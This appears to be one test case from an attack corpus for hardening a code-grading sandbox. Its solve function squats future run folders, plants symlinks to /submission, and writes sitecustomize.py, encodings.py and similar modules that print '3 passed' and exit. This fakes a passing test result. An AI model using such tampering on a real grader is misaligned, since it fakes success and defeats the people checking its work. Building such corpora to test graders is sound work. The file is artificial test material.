# ID: 266
# SLUG: squat-inside-copies
# CATEGORY: files
# ATTACK: fills the next copies ahead: folders where files will lie, links out of them, modules
#     that run before the submission
# VULNERABLE JUDGE: a copy that is called clean has files that nobody handed in, or a link out of
#     it is written through
# MUST HAPPEN HERE: files are laid anew and no link is followed; in any case the answer is the
#     candidate's and wrong
# EXPECT-VERDICT: fail   (never pass)
import os

if os.environ.get("ATTACK_CORPUS_IN_SANDBOX") != "1" and (
    os.geteuid() == 0 or not (os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv"))
):
    raise RuntimeError("attack corpus: refusing to run as root or outside a container")


def solve(x):
    for number in range(1, 60):
        root = f"/runs/{number}"
        try:
            os.mkdir(root)
            os.makedirs(f"{root}/{['README.md', 'work.py', 'tests/test_public.py/x'][number % 3]}")
            os.symlink("/submission", f"{root}/{['tests', 'server.py', 'command.py'][number % 3]}")
            for name in ("json.py", "sitecustomize.py", "usercustomize.py", "encodings.py"):
                with open(f"{root}/{name}", "w") as file:
                    file.write("import os; os.write(1, b'3 passed'); os._exit(0)")
        except OSError:
            pass
    return "wrong-answer"
